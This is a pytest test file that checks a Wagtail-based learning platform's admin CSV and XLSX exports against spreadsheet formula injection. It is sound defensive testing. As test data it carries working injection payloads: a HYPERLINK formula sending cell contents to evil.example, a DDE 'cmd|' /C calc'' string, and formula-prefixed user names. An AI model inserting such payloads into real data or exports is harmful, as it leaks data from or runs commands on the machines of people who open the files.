"""Wagtail's own listing and report exports cannot carry a spreadsheet formula.

Each export URL of the admin gets a hostile value that a person can type (a cohort name, a
page title, a user's name, a redirect target) and must return it as text: prefixed with
``'`` in CSV and XLSX, and the CSV starting with a UTF-8 BOM like the platform's own exports.
"""

import csv
import io

import pytest
from django.urls import get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from lms import roles
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def admin_client(client):
    user = factories.make_staff(role=roles.PROGRAMME_MANAGER, with_totp=True)
    user.is_superuser = True
    user.save(update_fields=["is_superuser"])
    client.force_login(user)
    return client


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def xlsx_rows(response) -> list[list[object]]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def assert_text_only(rows, hostile=HOSTILE):
    cells = [value for row in rows for value in row if isinstance(value, str)]
    assert "'" + hostile in cells
    assert not [value for value in cells if value.startswith(FORMULA_STARTS)]


@pytest.fixture
def hostile_page(catalog):
    return factories.make_course(index=catalog, modules=1, lessons=1, title=HOSTILE)


@pytest.mark.parametrize("prefix", FORMULA_STARTS)
def test_the_cohorts_listing_exports_a_formula_as_text(admin_client, catalog, prefix):
    from courses.models import Cohort

    course = factories.make_course(index=catalog, modules=1, lessons=1)
    name = prefix + "SUM(1+1)*cmd|' /C calc'!A0"
    Cohort.objects.create(course=course, name=name, start_date="2026-02-02")
    url = "/admin/coordination/cohorts/?export="
    assert_text_only(csv_rows(admin_client.get(url + "csv")), name)
    assert_text_only(xlsx_rows(admin_client.get(url + "xlsx")), name)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_aging_pages_report_exports_titles_as_text(admin_client, hostile_page, export):
    response = admin_client.get(f"/admin/reports/aging-pages/?export={export}")
    assert_text_only(csv_rows(response) if export == "csv" else xlsx_rows(response))


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_locked_pages_report_exports_titles_as_text(admin_client, hostile_page, export):
    hostile_page.locked = True
    hostile_page.locked_at = timezone.now()
    hostile_page.save(update_fields=["locked", "locked_at"])
    response = admin_client.get(f"/admin/reports/locked/?export={export}")
    assert_text_only(csv_rows(response) if export == "csv" else xlsx_rows(response))


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_site_history_exports_titles_and_user_names_as_text(admin_client, hostile_page, export):
    from wagtail.log_actions import log

    someone = factories.make_staff(given_name="=1+2", family_name="-cmd")
    log(instance=hostile_page, action="wagtail.edit", user=someone)
    response = admin_client.get(f"/admin/reports/site-history/?export={export}")
    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
    assert_text_only(rows)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_redirects_listing_exports_targets_as_text(admin_client, home_pages, export):
    from wagtail.contrib.redirects.models import Redirect

    Redirect.objects.create(old_path="/old", redirect_link=HOSTILE)
    response = admin_client.get(f"/admin/redirects/?export={export}")
    assert_text_only(csv_rows(response) if export == "csv" else xlsx_rows(response))


def test_no_export_view_bypasses_the_formula_safe_writer():
    """Views Wagtail adds (workflow reports, form submissions…) inherit the safe methods."""
    get_resolver().url_patterns  # noqa: B018 - imports every admin view module

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    views = list(subclasses(SpreadsheetExportMixin))
    assert len(views) > 5
    for name in ("preprocess_field_value", "get_heading", "stream_csv"):
        safe = getattr(SpreadsheetExportMixin, name)
        assert safe.__module__ == "lms.spreadsheets"
        assert [v for v in views if getattr(v, name) is not safe] == [], name
